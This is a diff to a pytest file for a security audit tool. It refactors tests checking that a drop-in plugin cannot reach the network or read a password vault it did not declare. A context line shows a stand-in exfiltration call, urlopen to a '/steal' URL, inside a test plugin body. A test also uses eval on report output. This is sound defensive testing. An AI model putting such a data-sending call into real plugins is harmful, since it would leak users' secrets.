@@ -11,6 +11,7 @@ from pathlib import Path
 
 import httpx
 import pytest
+from typer.testing import Result
 
 import hygiene_audit.safety.http as http
 from hygiene_audit.cli.commands import app
@@ -204,27 +205,24 @@ def snoop(directory: Path, body: str = SNOOP) -> Path:
     )
 
 
+def run_beside_the_password_check(plugins: Path, tmp_path: Path) -> Result:
+    """Offline, the drop-in check runs with HA-P, which reads a real vault: one that leaked
+    to a check that did not declare it would be there to find."""
+    vault = write_vault(tmp_path, "chrome")
+    return runner.invoke(
+        app,
+        [
+            *("run", "--offline", "-f", "json", "--checks-dir", str(plugins)),
+            *("--only", "T-SNOOP", "--only", "HA-P", "--passwords", str(vault)),
+        ],
+    )
+
+
 def test_a_drop_in_check_gets_only_what_it_declared_and_no_network_offline(
     tmp_path: Path,
 ) -> None:
     plugins = snoop(tmp_path / "plugins")
-    result = runner.invoke(
-        app,
-        [
-            "run",
-            "--offline",
-            "-f",
-            "json",
-            "--checks-dir",
-            str(plugins),
-            "--only",
-            "T-SNOOP",
-            "--only",
-            "HA-P",
-            "--passwords",
-            str(write_vault(tmp_path, "chrome")),
-        ],
-    )
+    result = run_beside_the_password_check(plugins, tmp_path)
     report = json.loads(result.stdout)
     row = {c["id"]: c for c in report["checks"]}["T-SNOOP"]
     assert row["status"] == "error"
@@ -240,23 +238,7 @@ def test_what_a_profile_only_check_can_reach(tmp_path: Path) -> None:
             '    urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)', "    pass"
         ),
     )
-    result = runner.invoke(
-        app,
-        [
-            "run",
-            "--offline",
-            "-f",
-            "json",
-            "--checks-dir",
-            str(plugins),
-            "--only",
-            "T-SNOOP",
-            "--only",
-            "HA-P",
-            "--passwords",
-            str(write_vault(tmp_path, "chrome")),
-        ],
-    )
+    result = run_beside_the_password_check(plugins, tmp_path)
     findings = json.loads(result.stdout)["findings"]
     finding = next(f for f in findings if f["id"] == "T-SNOOP001")
     reachable, found = eval(finding["evidence"])
